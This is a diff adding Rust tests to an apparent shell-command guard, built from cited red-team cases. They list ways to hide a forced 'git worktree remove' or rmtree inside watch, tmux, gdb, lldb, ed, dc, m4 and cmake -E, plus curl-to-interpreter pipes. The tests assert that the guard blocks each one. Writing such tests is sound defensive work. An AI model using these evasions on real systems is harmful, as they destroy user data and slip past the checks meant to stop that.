@@ -83,3 +83,75 @@ fn messages_name_the_runner_and_the_shell() {
         shown("fish -c 'git worktree remove --force ../dirty'")
     );
 }
+
+/// Red team 8b/25, 12, 13, 14: programs that run shell text of their own (`watch 'CMD'`, tmux's
+/// commands, gdb's `-ex 'shell CMD'`, ed's `!CMD`) are judged as that text; input ed reads that
+/// cannot be known is asked about; everyday uses stay silent.
+#[test]
+fn shell_text_run_by_watch_tmux_gdb_and_ed_is_judged() {
+    let f = fixture();
+    let r = &f.repo.root;
+    for cmd in [
+        "watch -n 1 'git worktree remove --force ../dirty'",
+        "timeout 3 watch -g 'git worktree remove --force ../dirty'",
+        "watch -dn1 git worktree remove --force ../dirty",
+        "sh -c \"watch 'git worktree remove --force ../dirty'\"",
+        "tmux new -d 'git worktree remove --force ../dirty'",
+        "tmux new-session -d -s x 'git worktree remove --force ../dirty'",
+        "tmux -L s split-window -h 'git worktree remove --force ../dirty'",
+        "tmux send-keys -t 0 'git worktree remove --force ../dirty' Enter",
+        "tmux run-shell -b 'git worktree remove --force ../dirty'",
+        "tmux new -d \\; neww 'git worktree remove --force ../dirty'",
+        "gdb -batch -ex 'shell git worktree remove --force ../dirty'",
+        "gdb -batch -ex '!git worktree remove --force ../dirty'",
+        "gdb -q --eval-command='shell git worktree remove --force ../dirty'",
+        "lldb -b -o 'platform shell git worktree remove --force ../dirty'",
+        "printf '!git worktree remove --force ../dirty\\nq\\n' | ed -s",
+        "ed -s <<< '!git worktree remove --force ../dirty'",
+    ] {
+        let reason = denied(r, cmd);
+        assert!(reason.contains("[guard:worktree-dirty]"), "{cmd}: {reason}");
+    }
+    stopped(
+        r,
+        "gdb -batch -ex 'python import shutil; shutil.rmtree(\"../dirty\")'",
+    );
+    stopped(r, "curl -s example.invalid | ed -s README.md");
+    for cmd in [
+        "watch -n 2 cargo test",
+        "watch 'git status --short'",
+        "tmux new -d -s build 'cargo build'",
+        "tmux ls",
+        "tmux send-keys -t 0 'cargo test' Enter",
+        "gdb -batch -ex run -ex bt --args ./target/debug/app",
+        "printf '1d\\nw\\nq\\n' | ed -s README.md",
+    ] {
+        allowed(r, cmd);
+    }
+}
+
+/// Red team 8b/15, 16, 28: dc's `!CMD`, m4's `syscmd`/`esyscmd` and `cmake -E
+/// remove|remove_directory` are judged as the shell text or removal they are.
+#[test]
+fn shell_text_of_dc_m4_and_cmake_e_is_judged() {
+    let f = fixture();
+    let r = &f.repo.root;
+    for cmd in [
+        "dc -e '!git worktree remove --force ../dirty'",
+        "echo 'syscmd(git worktree remove --force ../dirty)' | m4",
+        "m4 <<< 'esyscmd(git worktree remove --force ../dirty)'",
+        "cmake -E remove_directory ../dirty",
+    ] {
+        let reason = denied(r, cmd);
+        assert!(reason.contains("[guard:worktree"), "{cmd}: {reason}");
+    }
+    stopped(r, "curl -s example.invalid | dc");
+    for cmd in [
+        "dc -e '2 3 + p'",
+        "echo 'define(X, 1)X' | m4",
+        "cmake -E echo hi",
+        "cmake -E remove_directory build",
+    ] {
+        allowed(r, cmd);
+    }
+}
